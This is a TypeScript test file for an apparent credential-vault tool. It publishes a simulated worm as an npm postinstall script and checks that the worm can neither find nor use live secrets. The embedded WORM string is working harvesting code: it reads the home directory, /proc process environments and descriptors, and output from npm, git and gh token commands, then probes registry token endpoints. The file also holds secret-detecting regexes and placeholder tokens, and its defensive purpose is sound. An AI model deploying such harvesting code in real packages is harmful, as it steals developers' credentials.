/**
 * What the worms of the last years collect, from an install script of a real build: files by name and by what is in them, the
 * environments, command lines and descriptors of all processes (sources: docs/threat-model.md). And what they do with it.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RunView } from "../../../../src/core/gateway/views.ts";
import { makeClientProject } from "../../../fixtures/tools/client-project.ts";
import { client, clientsMissing } from "../../../fixtures/tools/clients.ts";
import { BIN, expectDone, makeHome, type TestHome } from "../../../fixtures/homes/home.ts";
import { missing } from "../../../fixtures/programs/programs.ts";
import { openTerminal } from "../../../fixtures/processes/pseudo-terminal.ts";
import { makeTls, type TestTls } from "../../../fixtures/network/tls.ts";
import { startVerdaccio, verdaccioMissing, type Verdaccio } from "../../../fixtures/registries/npm/verdaccio.ts";

const PASSPHRASE = "correct horse battery staple";
const GIT_SECRET = "ghp_4nT0kenOfGitThatNobodyMayFind0123456";
const MAVEN_SECRET = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJlLW9mLW1hdmVu";

/** As Shai-Hulud 1 and 2, s1ngularity, Mini Shai-Hulud and Miasma look, and TruffleHog, which some of them bring along. */
const WORM = `
const fs = require("node:fs"), path = require("node:path"), http = require("node:http"), https = require("node:https"), { execFileSync } = require("node:child_process");
const loot = [];
const take = (from, text) => loot.push("=== " + from + "\\n" + text);
const read = (file) => { try { if (fs.statSync(file).isFile() && fs.statSync(file).size < 5e6) take(file, fs.readFileSync(file, "latin1")); } catch {} };
const walk = (directory) => { try { for (const entry of fs.readdirSync(directory, { withFileTypes: true })) {
  const file = path.join(directory, entry.name);
  if (entry.isDirectory()) walk(file); else if (!file.endsWith("/loot")) read(file);
} } catch {} };
take("process.env", JSON.stringify(process.env));
walk(process.env.HOME);
for (const name of fs.readdirSync("/dev/shm")) if (name.startsWith("toolkey")) read("/dev/shm/" + name);
for (const pid of fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) {
  let environ = "";
  try { environ = fs.readFileSync("/proc/" + pid + "/environ", "latin1"); } catch { continue; }
  // Only what belongs to this person: the servers of the test run on the same machine.
  if (!environ.includes("HOME=" + process.env.HOME)) continue;
  take("environ of " + pid, environ);
  read("/proc/" + pid + "/cmdline");
  try { take("cmdline of " + pid, fs.readFileSync("/proc/" + pid + "/cmdline", "latin1")); } catch {}
  try { for (const descriptor of fs.readdirSync("/proc/" + pid + "/fd")) read("/proc/" + pid + "/fd/" + descriptor); } catch {}
}
for (const [program, ...argv] of [["npm", "config", "ls", "-l"], ["npm", "token", "list", "--json"], ["npm", "whoami"], ["git", "config", "--list"], ["gh", "auth", "token"], ["toolkey", "list"], ["toolkey-authorization", "npm", process.env.REGISTRY]])
  try { take(program + " " + argv.join(" "), execFileSync(program, argv, { encoding: "latin1", timeout: 60000, stdio: ["ignore", "pipe", "pipe"] })); } catch (error) { take(program + " fails", String(error.stdout) + String(error.stderr)); }
const [phantom] = loot.join("\\n").match(/tkphantom_[\\w-]{40,}/) ?? [];
const [gateway] = loot.join("\\n").match(/http:\\/\\/127\\.0\\.0\\.1:\\d+/) ?? [];
const ask = (method, url, token) => new Promise((resolve) => (url.startsWith("https") ? https : http).request(url, { method, headers: { authorization: "Bearer " + token, "content-type": "application/json" } }, (answer) => {
  let body = ""; answer.on("data", (chunk) => body += chunk); answer.on("end", () => resolve(answer.statusCode + " " + body)); }).on("error", (error) => resolve(error.code)).end(method === "GET" ? undefined : JSON.stringify({ password: "x", readonly: false, cidr_whitelist: [] })));
(async () => {
  const uses = {};
  for (const [method, place] of [["GET", "/@acme%2fthing"], ["GET", "/@acme/thing/-/thing-1.2.3.tgz"], ["PUT", "/@acme%2fthing"], ["GET", "/-/npm/v1/tokens"], ["POST", "/-/npm/v1/tokens"], ["GET", "/-/npm/v1/user"], ["PUT", "/-/user/org.couchdb.user:x"]]) {
    uses["gateway " + method + " " + place] = await ask(method, gateway + place, phantom);
    uses["upstream " + method + " " + place] = await ask(method, process.env.REGISTRY + place, phantom);
  }
  fs.writeFileSync(process.env.HOME + "/loot", loot.join("\\n"), "latin1");
  fs.writeFileSync(process.env.HOME + "/uses", JSON.stringify({ phantom: phantom !== undefined, uses }));
})();
`;

describe.skipIf(verdaccioMissing() || clientsMissing(["npm", 11]) || missing("script", "setsid"))("a worm in an install script", () => {
  let tls: TestTls;
  let registry: Verdaccio;
  let home: TestHome;
  let loot: string;
  let found: { phantom: boolean; uses: Record<string, string> };
  let secrets: string[];
  let runs: RunView[];

  beforeAll(async () => {
    tls = await makeTls();
    registry = await startVerdaccio({ tls });
    const { token } = await registry.createToken();
    secrets = [token, GIT_SECRET, MAVEN_SECRET, PASSPHRASE];
    expect(await registry.publish(registry.loginToken, "@acme/thing", "1.2.3", { scripts: { postinstall: "node worm.js" }, files: { "worm.js": WORM } })).toBe(201);
    home = await makeHome();
    const init = openTerminal(home, "toolkey init --key passphrase");
    await init.answer("new passphrase for the toolkey vault: ", `${PASSPHRASE}\r`);
    await init.answer("the same again: ", `${PASSPHRASE}\r`);
    expect((await init.ended).code).toBe(0);
    expectDone(await home.toolkey(["config", "accept", "--yes", "--cacert", tls.caFile]));
    await home.addToken("npm", registry.origin, token);
    await home.addToken("maven", "https://repo.acme.example/maven", MAVEN_SECRET, "ada");
    await home.addGitToken("https://git.acme.example", "ada", GIT_SECRET);
    const project = await makeClientProject(home, client("npm", 11), { registries: [{ url: registry.origin }], caFile: tls.caFile, dependencies: { "@acme/thing": "1.2.3" } });
    // Where a person keeps things that are nobody's business, but that toolkey does not keep.
    await mkdir(join(home.directory, ".aws"));
    writeFileSync(join(home.directory, ".aws", "credentials"), "nothing of ours\n");
    const [program, ...first] = client("npm", 11).argv;
    const installed = await home.run(join(BIN, "toolkey"), ["run", "--tool", "npm", "--", program, ...first, "install", "--foreground-scripts"], { cwd: project.directory, env: { ...project.environment, REGISTRY: registry.origin } });
    expectDone(installed);
    expect(await project.installed("@acme/thing")).toBe("1.2.3");
    loot = readFileSync(join(home.directory, "loot"), "latin1");
    found = JSON.parse(readFileSync(join(home.directory, "uses"), "utf8")) as typeof found;
    runs = JSON.parse(expectDone(await home.toolkey(["log", "--json"])).stdout) as RunView[];
  });
  afterAll(async () => {
    await home?.dispose();
    await registry?.close();
    await tls?.remove();
  });

  it("has read all that it wanted: the environments, the descriptors, the home, the vault as a file", () => {
    for (const place of ["process.env", "environ of", "cmdline of", "/fd/", "vault.age", ".npmrc", ".aws/credentials", "npm config ls", "daemon.log", "gateway.json"]) expect(loot).toContain(place);
    expect(found.phantom).toBe(true);
  });

  it("finds no live secret, in no form", () => {
    const forms = secrets.flatMap((secret) => [secret, Buffer.from(secret).toString("base64").replace(/=+$/, ""), Buffer.from(`ada:${secret}`).toString("base64").replace(/=+$/, ""), encodeURIComponent(secret)]);
    expect(forms.filter((form) => loot.includes(form))).toEqual([]);
  });

  it.each([
    ["npm's tokens", /\bnpm_[A-Za-z0-9]{36}\b/],
    ["registry tokens in npmrc", /_authToken\s*=\s*(?!tkphantom_|\$\{|\(protected\))\S{8,}/],
    ["passwords in npmrc", /:_(auth|password)\s*=\s*\S+/],
    ["GitHub's", /\bgh[pousr]_[A-Za-z0-9]{36}\b|github_pat_\w{22,}/],
    ["JSON web tokens", /\beyJ[\w-]{10,}\.eyJ[\w-]{10,}\./],
    ["Artifactory's", /\bAKC[a-zA-Z0-9]{10,}|\bcmVmd[\w-]{59}\b/],
    ["passwords in settings.xml", /<password>[^<]+<\/password>/],
    ["logins in URLs", /https?:\/\/[^\s/:@"']+:(?!tkphantom_)[^\s/@"']+@/],
    ["Authorization headers", /authorization["']?\s*[:=]\s*["']?(Basic|Bearer)\s+(?!tkphantom_)[\w+/=.-]{8,}/i],
    ["private keys", /-----BEGIN [A-Z ]*PRIVATE KEY-----|AGE-SECRET-KEY-1/],
  ])("matches nothing with its patterns: %s", (_what, pattern) => {
    expect(pattern.exec(loot.replace(WORM, ""))?.[0]).toBeUndefined();
  });

  it("can use what it finds for nothing, here or there", () => {
    const statuses = Object.entries(found.uses).map(([use, answer]) => [use, answer.slice(0, 3)]);
    expect(statuses).toHaveLength(14);
    for (const [use, status] of statuses) expect([use, status]).toEqual([use, use?.startsWith("gateway") === true ? "403" : expect.stringMatching(/^4\d\d$/)]);
  });

  it("is in the log, with what it tried and why it was refused", () => {
    const refused = runs.flatMap((run) => run.refused);
    expect(refused).toEqual(expect.arrayContaining([
      { what: "GET /@acme%2fthing", why: "the phantom belongs to another process, and does not work for this one", times: expect.any(Number) },
      { what: "GET /-/npm/v1/tokens", why: "blocked: this endpoint manages tokens or users", times: expect.any(Number) },
    ]));
    expect(runs.flatMap(({ traffic }) => traffic)).toMatchObject([{ host: new URL(registry.origin).host, token: expect.stringMatching(/^npm-/) }]);
  });
});
